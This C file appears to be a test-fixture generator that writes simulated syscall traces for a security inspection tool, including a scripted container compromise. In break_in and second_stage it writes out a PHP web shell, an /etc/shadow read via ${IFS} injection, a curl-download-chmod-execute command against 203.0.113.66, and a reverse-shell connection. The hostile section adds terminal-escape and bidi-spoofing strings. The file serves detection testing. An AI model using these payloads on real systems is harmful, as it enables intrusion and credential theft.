// SPDX-License-Identifier: Apache-2.0
/*
 * make_story - traces for the inspector's tests.
 *
 *	make_story story OUT	a web server's container is broken into; an administrator logs in
 *	make_story session OUT	somebody works at a terminal
 *	make_story twin OUT	another machine at the same time: the same pids, uids and ids mean others
 *	make_story kept OUT	a file of the flight recorder: triggers, actions, an audit log
 *	make_story hostile OUT	names and data that try to reach the terminal
 *	make_story empty OUT	no events
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "tests/inspect/trace_maker.h"

#define PTS0 0x8800u	/* 136:0 */
#define CG "name=systemd=/docker/"
#define ID_WEB "3f2a9c41d07be5a86c1f00d9e4b7a2358f6c0d1e2b3a495867a8b9c0d1e2f3a4"
#define ID_DB "b71c05de98a24f63c0ffee00aa55bb66cc77dd88ee99ff001122334455667788"

static void user(struct maker *m, uint32_t uid, const char *name)
{
	maker__row(m, EV_state_user, 0);
	maker__int(m, P_state_user_uid, uid);
	maker__int(m, P_state_user_gid, uid);
	maker__str(m, P_state_user_name, name);
	maker__str(m, P_state_user_container_id, "");
	maker__end(m);
}

static void container(struct maker *m, const char *full, const char *name, const char *image)
{
	char id[13], cgroup[128];

	snprintf(id, sizeof(id), "%s", full);
	snprintf(cgroup, sizeof(cgroup), "/docker/%s", full);
	maker__row(m, EV_state_container, 0);
	maker__str(m, P_state_container_id, id);
	maker__str(m, P_state_container_full_id, full);
	maker__str(m, P_state_container_runtime, "docker");
	maker__str(m, P_state_container_name, name);
	maker__str(m, P_state_container_image, image);
	maker__str(m, P_state_container_cgroup, cgroup);
	maker__int(m, P_state_container_start, T0 - 3600000000000u);
	maker__end(m);
}

static void listening(struct maker *m, uint32_t pid, int64_t fd, uint16_t port)
{
	uint8_t tuple[13] = { 2 };
	char name[32];

	tuple[11] = (uint8_t)port;
	tuple[12] = (uint8_t)(port >> 8);
	snprintf(name, sizeof(name), "0.0.0.0:%u", port);
	maker__as(m, pid);
	maker__row(m, EV_state_fd, 0);
	maker__int(m, P_state_fd_fd, (uint64_t)fd);
	maker__int(m, P_state_fd_type, FDT_IPV4_LISTEN);
	maker__str(m, P_state_fd_name, name);
	maker__mem(m, P_state_fd_tuple, tuple, sizeof(tuple));
	maker__int(m, P_state_fd_role, FDR_SERVER);
	maker__int(m, P_state_fd_l4, L4_TCP);
	maker__end(m);
}

static void keyframe(struct maker *m)
{
	const struct made_thread procs[] = {
		{ 1, 0, 0, 0, "systemd", "/sbin/init", "/usr/lib/systemd/systemd", "", NULL,
		 T0 - 86400000000000u },
		{ 2, 0, 0, 0, "kthreadd", "", "", "", NULL, T0 - 86400000000000u },
		{ 31, 2, 0, 0, "kworker/0:1", "", "", "", NULL, T0 - 86300000000000u },
		{ 610, 1, 0, 0, "sshd", "/usr/sbin/sshd", "/usr/sbin/sshd", "-D", NULL,
		 T0 - 86000000000000u },
		{ 650, 1, 0, 0, "containerd", "/usr/bin/containerd", "/usr/bin/containerd", "",
		 NULL,
		  T0 - 86000000000000u },
		{ 790, 1, 0, 0, "containerd-shim", "/usr/bin/containerd-shim-runc-v2",
		  "/usr/bin/containerd-shim-runc-v2", "-namespace moby -id " ID_WEB, NULL,
			  T0 - 3601000000000u },
		{ 800, 790, 0, 0, "nginx", "nginx: master process", "/usr/sbin/nginx", "",
		 CG ID_WEB,
		  T0 - 3600000000000u },
		{ 815, 800, 33, 0, "nginx", "nginx: worker process", "/usr/sbin/nginx", "",
		 CG ID_WEB,
		  T0 - 3599000000000u },
		{ 830, 800, 33, 0, "php-fpm", "php-fpm: pool www", "/usr/sbin/php-fpm8.2", "",
		 CG ID_WEB,
		  T0 - 3598000000000u },
		{ 850, 1, 0, 0, "containerd-shim", "/usr/bin/containerd-shim-runc-v2",
		  "/usr/bin/containerd-shim-runc-v2", "-namespace moby -id " ID_DB, NULL,
			  T0 - 3500000000000u },
		{ 860, 850, 999, 0, "postgres", "postgres", "/usr/lib/postgresql/15/bin/postgres",
		 "-D /data",
		  CG ID_DB, T0 - 3500000000000u },
	};

	user(m, 0, "root");
	user(m, 33, "www-data");
	user(m, 999, "postgres");
	user(m, 1000, "alice");
	container(m, ID_WEB, "web-1", "registry.example/shop/web:4.2");
	container(m, ID_DB, "db-1", "postgres:15");
	for (size_t i = 0; i < sizeof(procs) / sizeof(procs[0]); i++)
		maker__thread(m, &procs[i]);
	listening(m, 800, 6, 80);
	listening(m, 610, 3, 22);
	listening(m, 860, 5, 5432);
	maker__begin(m);
}

static void signal_to(struct maker *m, uint32_t from, uint32_t to, unsigned sig)
{
	maker__row(m, EV_kill, 0);
	maker__int(m, P_kill_pid, to);
	maker__int(m, P_kill_sig, sig);
	maker__end(m);
	maker__as(m, to);
	maker__row(m, EV_signaldeliver, 0);
	maker__int(m, P_signaldeliver_spid, from);
	maker__int(m, P_signaldeliver_dpid, to);
	maker__int(m, P_signaldeliver_sig, sig);
	maker__end(m);
}

static void alert(struct maker *m, const char *rule, unsigned priority, const char *text)
{
	maker__row(m, EV_alert, 0);
	maker__str(m, P_alert_rule, rule);
	maker__int(m, P_alert_priority, priority);
	maker__str(m, P_alert_source, "syscall");
	maker__str(m, P_alert_output, text);
	maker__int(m, P_alert_num, m->num + m->b->n - 1);
	maker__end(m);
}

static void drop(struct maker *m, uint64_t n)
{
	maker__row(m, EV_drop, 0);
	maker__int(m, P_drop_n, n);
	maker__int(m, P_drop_cpu, 2);
	maker__int(m, P_drop_from, m->ts - 5 * NS_MS);
	maker__int(m, P_drop_to, m->ts);
	maker__end(m);
}

/* A request for a page: accept, read, open, write, close. */
static void request(struct maker *m, int i)
{
	const uint8_t from[4] = { 198, 51, 100, (uint8_t)(10 + i % 5) };
	char path[64];

	maker__as(m, 815);
	maker__accept(m, 6, 20, from, (uint16_t)(50000 + i), 80);
	maker__read(m, 20, "GET /index.php HTTP/1.1\r\nHost: shop.example\r\n\r\n", 312);
	snprintf(path, sizeof(path), "/var/www/html/p%d.html", i % 7);
	maker__open_file(m, path, 21, FDF_RDONLY | FDF_CLOEXEC);
	maker__read(m, 21, "<!doctype html><html><head><title>Shop</title>", 4096);
	maker__close_fd(m, 21);
	maker__write(m, 20, "HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: text/html\r\n",
		     4310);
	maker__close_fd(m, 20);
}

static void requests(struct maker *m, int from, int n, uint64_t pause)
{
	for (int i = from; i < from + n; i++) {
		request(m, i);
		maker__wait(m, pause);
	}
}

/* Through the upload form comes a shell. */
static void break_in(struct maker *m)
{
	const uint8_t attacker[4] = { 203, 0, 113, 66 };

	maker__as(m, 815);
	maker__accept(m, 6, 22, attacker, 41712, 80);
	maker__read(m, 22, "POST /upload.php HTTP/1.1\r\nHost: shop.example\r\n", 1893);
	maker__as(m, 830);
	maker__open_file(m, "/var/www/html/uploads/img.php", 9,
			 FDF_WRONLY | FDF_CREAT | FDF_CREATED);
	maker__write(m, 9, "<?php system($_GET['c']); ?>", 28);
	maker__close_fd(m, 9);
	maker__fork(m, 4100, "php-fpm");
	maker__exec(m, "/bin/sh", "-c id;cat${IFS}/etc/shadow", 33, 0, 0);
	alert(m, "Shell in a container", 5, "sh was started by php-fpm in web-1 (command sh -c "
					    "id;cat /etc/shadow)");
	maker__fork(m, 4101, "sh");
	maker__exec(m, "/usr/bin/id", "", 33, 0, 0);
	maker__write(m, 1, "uid=33(www-data) gid=33(www-data)\n", 34);
	maker__exit(m, 0, 0);
	maker__as(m, 4100);
	maker__fork(m, 4102, "sh");
	maker__exec(m, "/bin/cat", "/etc/shadow", 33, 0, 0);
	maker__open_file(m, "/etc/shadow", -13, FDF_RDONLY);
	alert(m, "Sensitive file read", 4, "/etc/shadow was opened by cat in web-1");
	maker__exit(m, 1 << 8, 0);
	maker__as(m, 4100);
	maker__exit(m, 1 << 8, 0);
}

static void second_stage(struct maker *m)
{
	const uint8_t c2[4] = { 203, 0, 113, 66 }, dead[4] = { 203, 0, 113, 67 };

	maker__as(m, 830);
	maker__fork(m, 4120, "php-fpm");
	maker__exec(m, "/bin/sh", "-c curl -so /tmp/.x http://203.0.113.66/x; chmod +x /tmp/.x; "
				  "/tmp/.x", 33, 0, 0);
	maker__fork(m, 4121, "sh");
	maker__exec(m, "/usr/bin/curl", "-so /tmp/.x http://203.0.113.66/x", 33, 0, 0);
	maker__connect(m, 3, dead, 80, -111);
	maker__close_fd(m, 3);
	maker__connect(m, 3, c2, 80, 0);
	maker__write(m, 3, "GET /x HTTP/1.1\r\nHost: 203.0.113.66\r\n\r\n", 41);
	maker__open_file(m, "/tmp/.x", 4, FDF_WRONLY | FDF_CREAT | FDF_CREATED);
	for (int i = 0; i < 20; i++) {
		maker__read(m, 3, "\177ELF\002\001\001", 16384);
		maker__write(m, 4, "\177ELF\002\001\001", 16384);
	}
	maker__close_fd(m, 4);
	maker__exit(m, 0, 0);
	maker__as(m, 4120);
	maker__fork(m, 4122, "sh");
	maker__exec(m, "/bin/chmod", "+x /tmp/.x", 33, 0, 0);
	maker__row(m, EV_fchmodat, 0);
	maker__int(m, P_fchmodat_dirfd, (uint64_t)(int64_t)-100);
	maker__str(m, P_fchmodat_filename, "/tmp/.x");
	maker__int(m, P_fchmodat_mode, 0755);
	maker__end(m);
	maker__exit(m, 0, 0);
	maker__as(m, 4120);
	maker__fork(m, 4123, "sh");
	maker__exec(m, "/tmp/.x", "", 33, 0, EXE_UPPER_LAYER | EXE_WRITABLE);
	alert(m, "Dropped binary executed", 2,
	      "/tmp/.x, made in the container, was executed by sh in web-1");
	/* its parent leaves; the shim's child takes it over */
	maker__as(m, 4120);
	maker__exit(m, 0, 800);
	maker__as(m, 4123);
	maker__connect(m, 5, c2, 4444, 0);
	maker__read(m, 5, "uname -a\n", 9);
	maker__write(m, 5, "Linux web-1 6.1.0-18-amd64\n", 27);
	maker__row(m, EV_setuid, -1);
	maker__int(m, P_setuid_uid, 0);
	maker__end(m);
	maker__unlink(m, "/var/log/nginx/access.log", 0);
	maker__unlink(m, "/root/.bash_history", -13);
}

/* The administrator looks, and ends it. */
static void respond(struct maker *m)
{
	const uint8_t admin[4] = { 10, 0, 0, 7 };

	maker__as(m, 610);
	maker__accept(m, 3, 4, admin, 60022, 22);
	maker__fork(m, 4200, "sshd");
	maker__fork(m, 4201, "sshd");
	maker__exec(m, "/bin/bash", "-l", 1000, PTS0, 0);
	maker__fork(m, 4202, "bash");
	maker__exec(m, "/usr/bin/ps", "aux", 1000, PTS0, 0);
	maker__open_file(m, "/proc/4123/cmdline", 3, FDF_RDONLY);
	maker__read(m, 3, "/tmp/.x", 8);
	maker__exit(m, 0, 0);
	maker__as(m, 4201);
	maker__fork(m, 4203, "bash");
	maker__exec(m, "/usr/bin/sudo", "kill -9 4123", 1000, PTS0, 0);
	maker__row(m, EV_setuid, 0);
	maker__int(m, P_setuid_uid, 0);
	maker__end(m);
	maker__exec(m, "/bin/kill", "-9 4123", 0, PTS0, 0);
	signal_to(m, 4203, 4123, 9);
	maker__exit(m, 9, 0);
	maker__as(m, 4203);
	maker__exit(m, 0, 0);
}

static void container_ends(struct maker *m)
{
	maker__as(m, 830);
	maker__exit(m, 15, 0);
	maker__as(m, 815);
	maker__exit(m, 0, 0);
	maker__as(m, 800);
	maker__exit(m, 0, 0);
	maker__as(m, 650);
	maker__row(m, EV_container_end, 0);
	maker__mem(m, P_container_end_id, ID_WEB, 12);
	maker__int(m, P_container_end_exit_code, 0);
	maker__int(m, P_container_end_oom, 0);
	maker__end(m);
}

static void story(const char *path)
{
	struct maker m;

	maker__open(&m, path);
	m.chunk_events = 200;
	m.keyframe_every = 3;
	keyframe(&m);
	requests(&m, 0, 40, 90 * NS_MS);
	break_in(&m);
	requests(&m, 40, 20, 30 * NS_MS);
	second_stage(&m);
	drop(&m, 1234);
	requests(&m, 60, 60, 60 * NS_MS);
	respond(&m);
	maker__wait(&m, 900 * NS_MS);
	requests(&m, 120, 10, 20 * NS_MS);
	container_ends(&m);
	maker__close(&m);
}

/* --- session --------------------------------------------------------------------------------- */

/* What is typed comes back as an echo, a letter at a time. */
static void type(struct maker *m, const char *text)
{
	for (; *text; text++) {
		char key[3] = { *text == '\n' ? '\r' : *text, 0, 0 };

		maker__read(m, 0, key, 1);
		if (*text == '\n')
			maker__write(m, 1, "\r\n", 2);
		else
			maker__write(m, 1, key, 1);
		maker__wait(m, 120 * NS_MS);
	}
}

static void say(struct maker *m, const char *text)
{
	maker__write(m, 1, text, (int64_t)strlen(text));
}

/* A name server is asked, and answers with these addresses (NULL: that there is no such name). */
static void resolve(struct maker *m, const char *name, const char *addresses, uint32_t n)
{
	for (int answer = 0; answer < 2; answer++) {
		maker__row(m, EV_dns, 0);
		maker__int(m, P_dns_fd, 7);
		maker__str(m, P_dns_name, name);
		maker__str(m, P_dns_qtype, "A");
		maker__int(m, P_dns_answer, (uint64_t)answer);
		if (answer) {
			maker__int(m, P_dns_rcode, addresses ? 0 : 3);
			maker__int(m, P_dns_latency, 12 * NS_MS);
			if (addresses)
				maker__mem(m, P_dns_addresses, addresses, n);
		}
		maker__end(m);
		maker__wait(m, 12 * NS_MS);
	}
}

static void session(const char *path)
{
	static const uint8_t peer[4] = { 203, 0, 113, 66 };
	static const char prompt[] = "\033]0;alice@web\007\033[01;32malice@web\033[00m:~$ ";
	struct maker m;

	maker__open(&m, path);
	keyframe(&m);
	maker__as(&m, 610);
	maker__fork(&m, 4300, "sshd");
	maker__exec(&m, "/bin/bash", "-l", 1000, PTS0, 0);
	maker__open_file(&m, "/dev/pts/0", 0, FDF_RDONLY);
	maker__open_file(&m, "/dev/pts/0", 1, FDF_WRONLY);
	say(&m, prompt);
	type(&m, "sudo cat /etc/shadwo\b \bow\n");
	say(&m, "[sudo] password for alice: ");
	maker__read(&m, 0, "hunter2\r", 8);
	maker__wait(&m, 5000 * NS_MS);
	say(&m, "\r\nroot:$y$j9T$x:19700:0:99999:7:::\r\n");
	say(&m, prompt);
	type(&m, "vi notes\n");
	say(&m, "\033[?1049h\033[2J\033[1;1Hfirst line\033[2;1H\033[34m~\033[3;1H~\033[m"
		"\033[23;1H\033[7m\"notes\" 1 line\033[m\033[1;5H");
	maker__read(&m, 0, ":q\r", 3);
	say(&m, "\033[?1049l");
	say(&m, prompt);
	resolve(&m, "drop.example", "203.0.113.66\000203.0.113.67", 26);
	resolve(&m, "nowhere.example", NULL, 0);
	maker__connect(&m, 3, peer, 443, 0);
	maker__close_fd(&m, 3);
	maker__write(&m, 1, "the rest of this was not kept", 4096);
	maker__exit(&m, 0, 0);
	maker__close(&m);
}

/* --- twin ------------------------------------------------------------------------------------ */

static void twin(const char *path)
{
	static const uint8_t peer[4] = { 192, 0, 2, 9 };
	const struct made_thread procs[] = {
		{ 1, 0, 0, 0, "systemd", "/sbin/init", "/usr/lib/systemd/systemd", "", NULL, T0 - 96400000000000u },
		{ 610, 1, 0, 0, "crond", "/usr/sbin/crond", "/usr/sbin/crond", "", NULL, T0 - 96000000000000u },
		{ 790, 1, 0, 0, "containerd-shim", "/usr/bin/containerd-shim-runc-v2",
		  "/usr/bin/containerd-shim-runc-v2", "-namespace moby -id " ID_WEB, NULL, T0 - 3601500000000u },
		{ 800, 790, 33, 0, "redis", "redis-server", "/usr/bin/redis-server", "", CG ID_WEB,
		  T0 - 3600500000000u },
		{ 815, 610, 0, 0, "backup.sh", "/bin/sh", "/bin/sh", "/etc/cron.daily/backup.sh", NULL,
		  T0 - 2000000000u },
	};
	struct maker m;

	maker__machine("db02", "1c9a7b63-4d2e-4f8b-8a21-6e3d8c7f5ba2");
	maker__open(&m, path);
	user(&m, 0, "root");
	user(&m, 33, "backup");
	container(&m, ID_WEB, "web-2", "redis:7");
	for (size_t i = 0; i < sizeof(procs) / sizeof(procs[0]); i++)
		maker__thread(&m, &procs[i]);
	maker__begin(&m);
	maker__as(&m, 800);
	maker__open_file(&m, "/etc/shadow", 5, FDF_RDONLY);
	maker__wait(&m, 4000 * NS_MS);
	maker__as(&m, 815);
	maker__fork(&m, 4100, "backup.sh");
	maker__exec(&m, "/usr/bin/rsync", "-a /srv backup.example:", 33, 0, 0);
	maker__open_file(&m, "/etc/shadow", -13, FDF_RDONLY);
	maker__connect(&m, 3, peer, 873, 0);
	for (int i = 0; i < 20; i++) {
		maker__write(&m, 3, "@RSYNCD: 31.0", 900);
		maker__wait(&m, 50 * NS_MS);
	}
	maker__exit(&m, 3 << 8, 0);
	maker__close(&m);
}

/* --- kept ------------------------------------------------------------------------------------ */

static void trigger(struct maker *m, const char *by, const char *who, const char *reason, const char *rule,
		    const char *id, const char *file)
{
	maker__row(m, EV_trigger, 0);
	maker__str(m, P_trigger_by, by);
	maker__str(m, P_trigger_who, who);
	maker__str(m, P_trigger_reason, reason);
	maker__str(m, P_trigger_rule, rule);
	maker__str(m, P_trigger_container, id);
	maker__int(m, P_trigger_before, 30000 * (uint64_t)NS_MS);
	maker__int(m, P_trigger_after, 10000 * (uint64_t)NS_MS);
	maker__str(m, P_trigger_file, file);
	maker__end(m);
}

static void action(struct maker *m, const char *name, const char *object, const char *result, const char *text)
{
	maker__row(m, EV_action, 0);
	maker__str(m, P_action_playbook, "contain");
	maker__str(m, P_action_name, name);
	maker__str(m, P_action_object, object);
	maker__str(m, P_action_result, result);
	maker__str(m, P_action_text, text);
	maker__str(m, P_action_rule, "Shell in a container");
	maker__end(m);
}

static void audit(struct maker *m, const char *user, const char *verb, const char *resource, const char *name)
{
	char json[256];

	snprintf(json, sizeof(json), "{\"kind\":\"Event\",\"stage\":\"ResponseComplete\",\"verb\":\"%s\","
		 "\"user\":{\"username\":\"%s\"},\"objectRef\":{\"resource\":\"%s\",\"name\":\"%s\"}}",
		 verb, user, resource, name);
	maker__row(m, EV_k8s_audit, 0);
	maker__str(m, P_k8s_audit_json, json);
	maker__str(m, P_k8s_audit_stage, "ResponseComplete");
	maker__str(m, P_k8s_audit_verb, verb);
	if (*user)
		maker__str(m, P_k8s_audit_user, user);
	maker__str(m, P_k8s_audit_resource, resource);
	maker__str(m, P_k8s_audit_name, name);
	maker__int(m, P_k8s_audit_code, 200);
	maker__end(m);
}

/* A file of the flight recorder. evil: text that tries to reach the terminal, or "". */
static void kept(const char *path, const char *evil)
{
	struct maker m;

	maker__open(&m, path);
	keyframe(&m);
	requests(&m, 0, 5, 90 * NS_MS);
	break_in(&m);
	m.tid = m.pid = 0;
	trigger(&m, "alert", "", "sh was started by php-fpm", "Shell in a container", ID_WEB, "web-1-140308.spoor");
	action(&m, "freeze", "container web-1", "done", "9 processes stand still");
	action(&m, "label_pod", "pod shop/web-1", "failed", "the API server answers 403");
	maker__wait(&m, 700 * NS_MS);
	trigger(&m, "socket", "alice (uid 1000), spoor-capture[4400]", *evil ? evil : "looks odd", "", "", "");
	for (int i = 0; i < 7; i++) {
		audit(&m, "system:kube-scheduler", "update", "leases", "kube-scheduler");
		maker__wait(&m, 5 * NS_MS);
	}
	audit(&m, "alice@shop.example", "create", "pods/exec", "web-1");
	audit(&m, "alice@shop.example", "get", "secrets", "db");
	audit(&m, "", "get", "healthz", "");
	action(&m, "cut_network", *evil ? evil : "container web-1", "dry_run", *evil ? evil : "would be cut off");
	requests(&m, 5, 5, 90 * NS_MS);
	maker__close(&m);
}

/* --- hostile --------------------------------------------------------------------------------- */

static void hostile(const char *path)
{
	static char huge[4097];
	struct maker m;

	memset(huge, 'A', sizeof(huge) - 1);
	memcpy(huge, "/tmp/", 5);
	maker__open(&m, path);
	keyframe(&m);
	maker__as(&m, 830);
	maker__fork(&m, 5000, "\033[2J\033]0;owned\007");
	maker__exec(&m, "/tmp/\033[31mred\033[0m",
		    "\033]52;c;aGk=\007 \r\n\t\b\177 \302\233 \302\2332J", 33, PTS0, 0);
	maker__open_file(&m, "/tmp/\xe2\x80\xae" "gnp.exe", 3, FDF_RDONLY);
	maker__open_file(&m, "/tmp/\xff\xfe\x80 invalid", 4, FDF_RDONLY);
	maker__open_file(&m, "/tmp/\xe6\xbc\xa2\xe5\xad\x97/\xed\x95\x9c\xea\xb8\x80.txt", 5,
			 FDF_WRONLY | FDF_CREAT);
	maker__write(&m, 5, "\033[?1049l\033c\x9b" "31m", 12);
	maker__open_file(&m, "/tmp/e\xcc\x81\xcc\x82\xcc\x83\xcc\x84zalgo", 6, FDF_RDONLY);
	maker__open_file(&m, "/tmp/\xf0\x9f\x92\xa9\xe2\x80\x8d\xf0\x9f\x94\xa5", 7, FDF_RDONLY);
	maker__open_file(&m, huge, 8, FDF_RDONLY);
	maker__open_file(&m, "/tmp/new\nline", 9, FDF_RDONLY);
	maker__unlink(&m, "/tmp/\033P0;1|17/ab\033\\", 0);
	alert(&m, "Rule \033[5mblink", 1, "text with \033[1;1H escape \x9b" "5n and \xe2\x80\xaf "
		"bidi \xe2\x80\xab");
	maker__fork(&m, 5001, "\xe6\xbc\xa2\xe5\xad\x97\xe6\xbc\xa2\xe5\xad\x97\xe6");
	maker__exec(&m, huge, huge, 33, 0, 0);
	maker__exit(&m, 11, 0);
	maker__close(&m);
}

int main(int argc, char **argv)
{
	if (argc == 3 && !strcmp(argv[1], "story")) {
		story(argv[2]);
	} else if (argc == 3 && !strcmp(argv[1], "session")) {
		session(argv[2]);
	} else if (argc == 3 && !strcmp(argv[1], "kept")) {
		kept(argv[2], "");
	} else if (argc == 3 && !strcmp(argv[1], "kept-hostile")) {
		kept(argv[2], "\033[2J\033]0;owned\007 \302\233 \xe2\x80\xae");
	} else if (argc == 3 && !strcmp(argv[1], "twin")) {
		twin(argv[2]);
	} else if (argc == 3 && !strcmp(argv[1], "hostile")) {
		hostile(argv[2]);
	} else if (argc == 3 && !strcmp(argv[1], "empty")) {
		struct maker m;

		maker__open(&m, argv[2]);
		maker__begin(&m);
		maker__close(&m);
	} else {
		fprintf(stderr, "usage: make_story story|session|twin|kept|kept-hostile|hostile|empty OUT\n");
		return 1;
	}
	return 0;
}
